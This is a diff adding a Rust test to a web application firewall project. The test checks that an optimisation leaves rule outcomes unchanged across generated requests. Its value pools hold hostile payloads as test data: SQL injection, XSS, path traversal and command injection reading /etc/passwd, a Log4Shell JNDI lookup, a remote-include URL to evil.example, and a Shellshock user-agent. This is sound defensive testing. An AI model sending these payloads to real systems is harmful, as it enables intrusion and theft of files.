@@ -211,3 +211,194 @@ fn literal_prefilter_changes_no_outcome_on_the_corpus() {
     );
     assert_same(&c);
 }
+
+/// Requests put together from small pools of benign and hostile parts, so that values recur
+/// and the link results decide many rules, served with them and without them at paranoia
+/// level 4 (detection) and 1 (prevention): every request must end the same way (the
+/// interruption, every logged match, the TX collection). A wrong record would let an attack
+/// through; this looks for one where the corpus's mostly unique values would not.
+#[test]
+fn link_results_change_no_outcome_on_recurring_parts() {
+    use tandem_waf::transaction::{RequestHead, Transaction};
+    let Some(dir) = crs_dir() else {
+        return;
+    };
+    const PATHS: &[&str] = &[
+        "/",
+        "/index.php",
+        "/products/list",
+        "/a/../../etc/passwd",
+        "/search",
+        "/wp-admin/admin-ajax.php",
+        "/static/app.js",
+        "/cgi-bin/test.cgi",
+    ];
+    const NAMES: &[&str] = &[
+        "q", "id", "page", "file", "cmd", "user", "url", "a[]", "<b>",
+    ];
+    const VALUES: &[&str] = &[
+        "1",
+        "blue shoes",
+        "1' OR '1'='1",
+        "<script>alert(1)</script>",
+        "../../etc/passwd",
+        ";cat /etc/passwd",
+        "javascript:alert(1)",
+        "admin",
+        "http://evil.example/x.txt?",
+        "SELECT * FROM users",
+        "eval(base64_decode($x))",
+        "${jndi:ldap://x.example/a}",
+        "normal text, nothing else",
+        "été",
+        "%00",
+        "onerror=alert(1)",
+        "|id",
+        "O'Brien",
+    ];
+    const AGENTS: &[&str] = &[
+        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
+        "sqlmap/1.7",
+        "curl/8.5.0",
+        "() { :; }; /bin/bash -c id",
+    ];
+    const COOKIES: &[&str] = &[
+        "session=abc123",
+        "theme=dark",
+        "id=1' or 1=1--",
+        "x=<svg/onload=1>",
+    ];
+    let enc = |s: &str| -> String {
+        s.bytes()
+            .map(|b| {
+                if b.is_ascii_alphanumeric() || b"-_.".contains(&b) {
+                    (b as char).to_string()
+                } else {
+                    format!("%{b:02X}")
+                }
+            })
+            .collect()
+    };
+    // xorshift64*: the same requests on every run.
+    let mut state = 0x9E37_79B9_7F4A_7C15u64;
+    let mut next = |n: usize| -> usize {
+        state ^= state >> 12;
+        state ^= state << 25;
+        state ^= state >> 27;
+        (state.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33) as usize % n
+    };
+    let mut requests = Vec::new();
+    for i in 0..1500 {
+        let mut query = Vec::new();
+        for _ in 0..next(4) {
+            query.push(format!(
+                "{}={}",
+                enc(NAMES[next(NAMES.len())]),
+                enc(VALUES[next(VALUES.len())])
+            ));
+        }
+        let path = PATHS[next(PATHS.len())];
+        let uri = if query.is_empty() {
+            path.to_string()
+        } else {
+            format!("{path}?{}", query.join("&"))
+        };
+        let mut headers = vec![
+            ("Host".to_string(), "shop.example.com".to_string()),
+            (
+                "User-Agent".to_string(),
+                AGENTS[next(AGENTS.len())].to_string(),
+            ),
+            ("Accept".to_string(), "text/html,*/*;q=0.8".to_string()),
+        ];
+        let cookies: Vec<&str> = (0..next(3)).map(|_| COOKIES[next(COOKIES.len())]).collect();
+        if !cookies.is_empty() {
+            headers.push(("Cookie".to_string(), cookies.join("; ")));
+        }
+        let post = next(3) == 0;
+        let body = if post {
+            let form: Vec<String> = (0..1 + next(3))
+                .map(|_| {
+                    format!(
+                        "{}={}",
+                        enc(NAMES[next(NAMES.len())]),
+                        enc(VALUES[next(VALUES.len())])
+                    )
+                })
+                .collect();
+            let body = form.join("&").into_bytes();
+            headers.push((
+                "Content-Type".to_string(),
+                "application/x-www-form-urlencoded".to_string(),
+            ));
+            headers.push(("Content-Length".to_string(), body.len().to_string()));
+            body
+        } else {
+            Vec::new()
+        };
+        let head = RequestHead {
+            method: if post { "POST" } else { "GET" }.into(),
+            uri: uri.into_bytes(),
+            protocol: "HTTP/1.1".into(),
+            headers: headers
+                .into_iter()
+                .map(|(n, v)| (n.into_bytes(), v.into_bytes()))
+                .collect(),
+            client: "203.0.113.9:40000".parse().expect("addr"),
+            server: None,
+            request_id: format!("r{i}"),
+        };
+        requests.push((head, body));
+    }
+    let serve = |rs: &Arc<RuleSet>, head: &RequestHead, body: &[u8]| {
+        let mut t = Transaction::new(rs.clone(), head);
+        t.process_request_headers();
+        if t.interruption().is_none() {
+            t.process_request_body(body);
+        }
+        if t.interruption().is_none() {
+            t.process_response_headers(
+                200,
+                "HTTP/1.1",
+                &[(b"Content-Type".to_vec(), b"text/html".to_vec())],
+            );
+            t.process_response_body(b"<html>ok</html>");
+        }
+        t.process_logging();
+        let matches: Vec<String> = t.matches().iter().map(|m| m.log_line()).collect();
+        let outcome = (
+            t.interruption().map(|i| (i.rule_id, i.status)),
+            matches,
+            t.tx_collection(),
+        );
+        (outcome, t.rules_decided_by_results())
+    };
+    for setup in [ftw::CRS_TEST_SETUP, PL1_PREVENTION] {
+        let with = Arc::new(ftw::load_crs(&dir, setup).expect("CRS loads"));
+        let mut without = ftw::load_crs(&dir, setup).expect("CRS loads");
+        without.set_link_results(false);
+        let without = Arc::new(without);
+        let (mut decided, mut blocked) = (0u64, 0u32);
+        for (head, body) in &requests {
+            let (a, n) = serve(&with, head, body);
+            let (b, _) = serve(&without, head, body);
+            assert_eq!(
+                a,
+                b,
+                "{} {} ended differently",
+                head.method,
+                String::from_utf8_lossy(&head.uri)
+            );
+            decided += u64::from(n);
+            blocked += u32::from(a.0.is_some());
+        }
+        eprintln!(
+            "{} requests: {decided} rules decided by link results, {blocked} interrupted",
+            requests.len()
+        );
+        assert!(
+            decided > requests.len() as u64 * 20,
+            "the link results decided almost nothing: {decided}"
+        );
+    }
+}
